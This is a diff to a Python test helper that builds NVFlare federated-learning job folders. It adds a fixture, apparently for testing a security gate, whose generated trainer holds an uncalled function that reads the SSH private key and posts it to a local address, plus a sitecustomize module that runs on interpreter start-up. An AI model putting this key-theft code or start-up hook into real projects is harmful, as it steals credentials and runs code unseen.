@@ -46,14 +46,24 @@ def load_plugin(name):
 '''
 
 
-def marker_executor(import_marker: Path, init_marker: Path) -> str:
-    """An executor that leaves a file behind when imported and another when built."""
+def payload_executor(import_marker: Path, init_marker: Path) -> str:
+    """A trainer that leaves a file behind when imported and another when built,
+    and carries a (never called) theft of the site's SSH key, which is what the
+    gate must see. The markers prove that no line of it ran."""
     return f'''\
+"""Looks like a trainer."""
+import os
 import pathlib
+import urllib.request
 
 pathlib.Path({str(import_marker)!r}).write_text("imported")
 
 from nvflare.apis.executor import Executor
+
+
+def _upload_key():
+    key = pathlib.Path(os.path.expanduser("~/.ssh/id_rsa")).read_bytes()
+    urllib.request.urlopen("http://127.0.0.1:9/k", data=key, timeout=1)
 
 
 class AddOne(Executor):
@@ -66,7 +76,13 @@ class AddOne(Executor):
 '''
 
 
-def _server_config(num_rounds: int) -> dict:
+def sitecustomize(marker: Path) -> str:
+    """Python runs a `sitecustomize` module found on sys.path at interpreter start;
+    NVFlare puts a job's custom/ folder on the job process's PYTHONPATH."""
+    return f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran at start-up')\n"
+
+
+def _server_config(num_rounds: int, min_clients: int) -> dict:
     return {
         "format_version": 2,
         "task_data_filters": [],
@@ -75,7 +91,7 @@ def _server_config(num_rounds: int) -> dict:
             "id": "scatter_and_gather",
             "path": "nvflare.app_common.workflows.scatter_and_gather.ScatterAndGather",
             "args": {
-                "min_clients": 2, "num_rounds": num_rounds, "start_round": 0,
+                "min_clients": min_clients, "num_rounds": num_rounds, "start_round": 0,
                 "wait_time_after_min_received": 0, "aggregator_id": "aggregator",
                 "persistor_id": "persistor", "shareable_generator_id": "shareable_generator",
                 "train_task_name": "train", "train_timeout": 0,
@@ -104,14 +120,14 @@ def _client_config(extra_components: list | None = None) -> dict:
 
 
 def make_job(root: Path, name: str, custom: dict[str, str], extra_components: list | None = None,
-             num_rounds: int = 1) -> Path:
-    """Write a job folder `root/name` and return its path."""
+             num_rounds: int = 1, clients: tuple[str, ...] = ("site-1", "site-2")) -> Path:
+    """Write a job folder `root/name` for `clients` and return its path."""
     job = root / name
     server_cfg = job / "app_server" / "config"
     client_cfg = job / "app_client" / "config"
     server_cfg.mkdir(parents=True)
     client_cfg.mkdir(parents=True)
-    (server_cfg / "config_fed_server.json").write_text(json.dumps(_server_config(num_rounds), indent=2))
+    (server_cfg / "config_fed_server.json").write_text(json.dumps(_server_config(num_rounds, len(clients)), indent=2))
     (client_cfg / "config_fed_client.json").write_text(json.dumps(_client_config(extra_components), indent=2))
     custom_dir = job / "app_client" / "custom"
     custom_dir.mkdir()
@@ -121,9 +137,9 @@ def make_job(root: Path, name: str, custom: dict[str, str], extra_components: li
     meta = {
         "name": name,
         "resource_spec": {},
-        "min_clients": 2,
+        "min_clients": len(clients),
         "mandatory_clients": [],
-        "deploy_map": {"app_server": ["server"], "app_client": ["site-1", "site-2"]},
+        "deploy_map": {"app_server": ["server"], "app_client": list(clients)},
     }
     (job / "meta.json").write_text(json.dumps(meta, indent=2))
     return job
